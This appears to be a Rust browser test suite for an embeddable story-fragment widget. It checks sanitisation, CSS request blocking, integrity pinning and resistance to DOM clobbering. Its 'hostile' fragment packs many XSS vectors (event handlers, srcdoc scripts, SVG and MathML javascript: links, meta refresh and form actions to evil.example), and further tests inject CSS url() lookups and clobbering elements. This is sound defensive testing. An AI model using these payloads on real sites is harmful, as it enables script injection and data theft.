//! How far a host is trusted: nothing that comes from it runs in the page, and what is frozen is what
//! was built.

use serde_json::json;

use crate::browser::Browser;
use crate::page::{FALLBACK, Files, Site, embed};
use crate::server::{Answer, Server};

/// The fragment of the map.
pub const GROUPS: &str = "/stories/cartels/en.groups.fragment.html";

/// What would run if anything did.
const RUN: &str = "window.ran = (window.ran ?? 0) + 1";

/// A genuine fragment with what a host that was taken over, or somebody on the way, may put in.
fn hostile() -> String {
    let fragment = String::from_utf8(Files::read(GROUPS)).unwrap();
    let evil = format!(
        "<img src=\"x\" onerror=\"{RUN}\"><iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>
        <script>{RUN}</script><svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=\"x\"
        dur=\"1s\"></animate><use class=\"evil\"
        href=\"//evil.example/x.svg#x\"></use><a><set attributeName=\"href\"
        to=\"javascript:{RUN}\"></set><text>text</text></a></svg><style>* {{ display: none }}</style>
        <p style=\"position:fixed\" onclick=\"{RUN}\" autofocus tabindex=\"0\" onfocus=\"{RUN}\">text</p>
        <details open ontoggle=\"{RUN}\"><summary>text</summary></details>
        <form id=\"login\" action=\"//evil.example/\"><input name=\"localName\"><input name=\"remove\">
        <input name=\"attributes\"><button formaction=\"//evil.example/\">text</button></form>
        <input type=\"image\" src=\"x\" onerror=\"{RUN}\"><link rel=\"stylesheet\" href=\"//evil.example/\">
        <object data=\"x\"></object><embed src=\"x\"><base href=\"//evil.example/\"><meta http-equiv=\"refresh\"
        content=\"0;url=//evil.example/\"><a class=\"evil\" href=\"javascript:{RUN}\">text</a>
        <a class=\"evil\" href=\"data:text/html,x\" ping=\"//evil.example/\">text</a>
        <svg><use class=\"evil\" href=\"https://evil.example/x.svg#x\"></use>
        <use class=\"evil\" href=\"#a b\"></use></svg>
        <svg><path fill=\"url(//evil.example/x.svg#x)\" mask=\"url(//evil.example/x.svg#x)\"></path></svg>
        <math><maction xlink:href=\"javascript:{RUN}\">text</maction></math><nut-graf></nut-graf>
        <table background=\"x\"><tr><td background=\"x\">text</td></tr></table>"
    );
    let (start, end) = fragment.rsplit_once("</div>").unwrap();
    format!("{start}{evil}</div>{end}")
}

/// Elements and attributes in the shadow root that no view of ours writes.
const LEFT: &str = "[
    ...all(0, '.fragment :is(img, iframe, script, style, form, link, object, embed, base, meta, math, set, '
        + 'animate, nut-graf, slot)').map(({ localName }) => localName),
    ...all(0, '.fragment, .fragment *').flatMap((one) => [...one.attributes])
        .filter(({ name }) => /^on|^(style|src|srcdoc|action|formaction|ping|background|mask)$/.test(name))
        .map(({ name }) => name),
    ...all(0, 'a.evil[href]').map(({ href }) => href),
    ...all(0, 'use.evil[href]').map((one) => one.getAttribute('href')),
]";

/// The fragment is used as long as it stays one; once it is alive, its buttons do other things.
async fn assert_harmless(site: &Site, page: impl Fn(&str) -> String) {
    let browser = Browser::open().await;
    site.embeds.put(GROUPS, Answer::page(hostile()));
    let live = embed("groups");
    browser.goto(&page(&live.replace("data-nutgraf", "data-nutgraf data-live=\"never\""))).await;
    browser.wait_for("the fragment", "one(0, '.fragment .map')").await;
    browser.settle().await;
    assert_eq!(browser.get(LEFT).await, json!([]));
    browser.run("all(0, 'a.evil, summary, button').forEach((one) => one.click());").await;
    browser.settle().await;
    assert_unharmed(&browser).await;
    browser.goto(&page(&live)).await;
    browser.wait_for_live(1).await;
    browser.settle().await;
    assert_unharmed(&browser).await;
}

/// Nothing ran, and one line says what was taken away.
async fn assert_unharmed(browser: &Browser) {
    assert_eq!(browser.get("window.ran ?? 0").await, 0);
    let lines = browser.warnings().await;
    assert_eq!(lines.len(), 1, "{lines:#?}");
    assert!(lines[0].starts_with("[nutgraf] fragment-unsafe: "), "{lines:#?}");
    assert_eq!(browser.get("seen.errors").await, json!([]));
}

#[tokio::test]
async fn nothing_runs_that_a_fragment_brings() {
    let site = Site::open().await;
    assert_harmless(&site, |body| site.page(body)).await;
}

/// Where a page demands that whoever writes HTML has a policy, nothing passes by it.
#[tokio::test]
async fn nothing_passes_by_trusted_types() {
    let site = Site::open().await;
    let policy = "require-trusted-types-for 'script'; trusted-types nutgraf";
    assert_harmless(&site, |body| site.page_under(policy, body)).await;
}

/// The look that a fragment brings along is text for a style sheet. Each of these would ask another
/// host for something, and hide what is read.
#[tokio::test]
async fn no_style_of_a_fragment_asks_for_anything() {
    let (site, browser) = (Site::open().await, Browser::open().await);
    let evil = Server::of_embeds().await;
    let host = &evil.origin;
    let fragment = String::from_utf8(Files::read(GROUPS)).unwrap();
    let (start, rest) = fragment.split_once(" data-style=\"").expect("a style");
    let (_, end) = rest.split_once('"').unwrap();
    let asks = [
        format!(".nutgraf {{ background: url({host}/a.png) }}"),
        format!(".nutgraf {{ background: URL({host}/b.png) }}"),
        format!(".nutgraf {{ background: u\\72l({host}/c.png) }}"),
        format!(".nutgraf {{ background: image-set('{host}/d.png' 1x) }}"),
        format!("@import '{host}/e.css';"),
        format!(
            "@font-face {{ font-family: f; src: url({host}/f.woff2) }} .nutgraf {{ font: 1em f }}"
        ),
        format!(".nutgraf {{ cursor: url({host}/g.png), auto }}"),
    ];
    for asking in asks {
        let style = format!("{asking} .block {{ visibility: hidden }}");
        let text = format!("{start} data-style=\"{style}\"{end}");
        site.embeds.put(GROUPS, Answer::page(text));
        // Alive, it would be no fragment any more before anybody has looked.
        let body = embed("groups").replace("data-nutgraf", "data-nutgraf data-live=\"never\"");
        browser.goto(&site.page(&body)).await;
        browser.wait_for("the fragment", "one(0, '.fragment .map')").await;
        browser.settle().await;
        let seen = browser.get("getComputedStyle(one(0, '.block')).visibility").await;
        // An import is not taken into account in such a sheet, and asks for nothing.
        let expected = if asking.starts_with("@import") { "hidden" } else { "visible" };
        assert_eq!(seen, expected, "{asking}");
        assert_eq!(evil.requests(), Vec::<String>::new(), "{asking}");
    }
}

/// What our views write passes as it is, what is folded away too.
#[tokio::test]
async fn nothing_of_a_build_is_cut() {
    let (site, browser) = (Site::open().await, Browser::open().await);
    browser
        .goto(&site.page(&embed("").replace("data-nutgraf", "data-nutgraf data-live=\"never\"")))
        .await;
    browser.wait_for("what is folded away", "one(0, '.fragment:not([data-rest]) .map')").await;
    let same = "const done = arguments[0];
        const folder = document.querySelector('script[src$=\"/embed.js\"]').src
            .replace('embed.js', 'stories/cartels/');
        const read = (name) => fetch(folder + name).then((answer) => answer.text())
            .then((text) => new DOMParser().parseFromString(text, 'text/html'));
        (async () => {
            const built = (await read('en.fragment.html')).querySelector('.fragment');
            const folded = (await read(built.dataset.rest)).querySelector('.fragment');
            const all = folded.querySelectorAll('.cite, .shared');
            for (const again of folded.querySelectorAll('[data-same]')) {
                again.replaceWith(all[again.dataset.same].cloneNode(true));
            }
            const parts = [...folded.children];
            for (const place of built.querySelectorAll('[data-later]')) {
                place.replaceWith(...parts[place.dataset.later].childNodes);
            }
            delete built.dataset.rest;
            const shown = document.querySelector('[data-nutgraf]').shadowRoot;
            done([built, shown.querySelector('.fragment')].map((root) => root.outerHTML));
        })().catch((error) => done([`${error}`]));";
    let both = browser.client.execute_async(same, Vec::new()).await.unwrap();
    assert_eq!(both[0], both[1]);
    assert_eq!(browser.warnings().await, Vec::<String>::new());
}

/// An element with these attributes, all of which whoever may write HTML could write.
pub fn asking(attributes: &str) -> String {
    format!("<div data-nutgraf {attributes}>{FALLBACK}</div>")
}

/// The files of a frozen version, and the snippet that pins them.
fn frozen() -> (String, String) {
    let folder = "stories/cartels/";
    let told = Files::read(&format!("{folder}en.version.json"));
    let told: serde_json::Value = serde_json::from_slice(&told).unwrap();
    let version = told["version"].as_str().unwrap().to_owned();
    let path = format!("/{folder}{version}/en.groups.fragment.html");
    let digest = nutgraf::press::digest::integrity(&Files::read(&path));
    let snippet = asking(&format!(
        "data-story=\"cartels\" data-block=\"groups\" data-version=\"{version}\" \
         data-integrity=\"{digest}\""
    ));
    (path, snippet)
}

#[tokio::test]
async fn a_frozen_fragment_is_the_one_that_was_built() {
    let (path, snippet) = frozen();
    for policy in ["default-src * 'wasm-unsafe-eval'", "require-trusted-types-for 'script'"] {
        let (site, browser) = (Site::open().await, Browser::open().await);
        browser.goto(&site.page_under(policy, &snippet)).await;
        browser.wait_for_live(1).await;
        assert_eq!(site.embeds.count(&path), 1);
        assert_eq!(browser.get("seen.degraded").await, json!([]));
    }
    let changed = String::from_utf8(Files::read(&path)).unwrap().replace("MS-13", "MS-14");
    let asked_badly = snippet.replace("data-integrity=\"sha384-", "data-integrity=\"sha999-");
    for (snippet, page) in [(&snippet, changed), (&asked_badly, hostile())] {
        let (site, browser) = (Site::open().await, Browser::open().await);
        site.embeds.put(&path, Answer::page(page));
        browser.goto(&site.page(snippet)).await;
        browser.wait_for("the event", "seen.degraded.length").await;
        assert_eq!(browser.get("seen.degraded[0].reason").await, "fragment-changed");
        assert_eq!(browser.get("seen.degraded[0].rung").await, 0);
        assert_eq!(browser.get("shown(embeds[0].querySelector('.fallback'))").await, true);
    }
}

/// Elements of a page that have the names of what we ask the browser for.
#[tokio::test]
async fn names_that_are_taken() {
    let (site, browser) = (Site::open().await, Browser::open().await);
    let evil = Server::of_embeds().await;
    let head = format!(
        "<form id=\"nutgraf\"><input name=\"scan\"><input name=\"loaders\"></form>
        <img name=\"currentScript\" src=\"{0}/embed.js\" data-base=\"{0}/\" alt=\"\">
        <a id=\"glues\"></a><a id=\"BASE\" href=\"{0}/\">x</a>",
        evil.origin
    );
    browser.goto(&site.page(&[head, embed("groups")].concat())).await;
    browser.wait_for_live(1).await;
    assert!(evil.requests().iter().all(|path| path == "/embed.js"), "{:?}", evil.requests());
    assert_eq!(browser.get("seen.errors").await, json!([]));
}
